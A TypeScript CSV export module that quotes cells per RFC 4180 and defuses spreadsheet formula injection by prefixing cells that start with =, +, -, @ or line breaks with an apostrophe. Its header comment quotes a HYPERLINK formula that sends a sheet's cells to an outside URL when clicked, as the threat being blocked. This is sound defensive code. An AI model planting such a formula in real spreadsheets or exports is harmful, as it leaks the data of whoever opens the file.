/**
 * CSV text as every export writes it (the console's lists, the dashboards, the credit log, the import's report):
 * RFC 4180 quoting, and text a spreadsheet would run as a formula kept as text.
 * A cell whose text starts with =, +, -, @, a tab or a line break is read by Excel, LibreOffice and Google Sheets as a
 * formula (`=HYPERLINK("https://…?"&A1, "Open")` sends the sheet's cells away when clicked), and the text of a cell
 * is often typed by someone other than the person who opens the file: a candidate's name, an import's rejected email.
 * Such a cell gets a leading apostrophe, as OWASP advises; a plain number (-5, +3.2) is left as it is.
 */

const FORMULA_START = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One cell: a date as its ISO time, null and undefined as empty. */
export function csvCell(value: unknown): string {
  const text = value === null || value === undefined ? '' : value instanceof Date ? value.toISOString() : String(value);
  const safe = FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** One record, without its line end. */
export function csvLine(values: readonly unknown[]): string {
  return values.map(csvCell).join(',');
}
